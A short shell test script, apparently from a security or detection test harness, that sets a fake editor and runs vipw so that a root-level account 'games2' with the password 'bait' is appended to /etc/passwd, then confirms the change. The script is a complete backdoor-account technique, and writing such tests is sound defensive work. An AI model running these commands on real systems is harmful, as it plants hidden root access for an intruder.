#!/bin/sh
. /opt/case/case.sh

# shellcheck disable=SC2016 # the editor's own argument
printf '#!/bin/sh\nprintf "games2:%%s:0:0::/root:/bin/sh\\n" "$(openssl passwd -1 bait)" >>"$1"\n' >/tmp/ed
chmod +x /tmp/ed
EDITOR=/tmp/ed VISUAL=/tmp/ed vipw >/dev/null
grep -q '^games2:' /etc/passwd
took_place
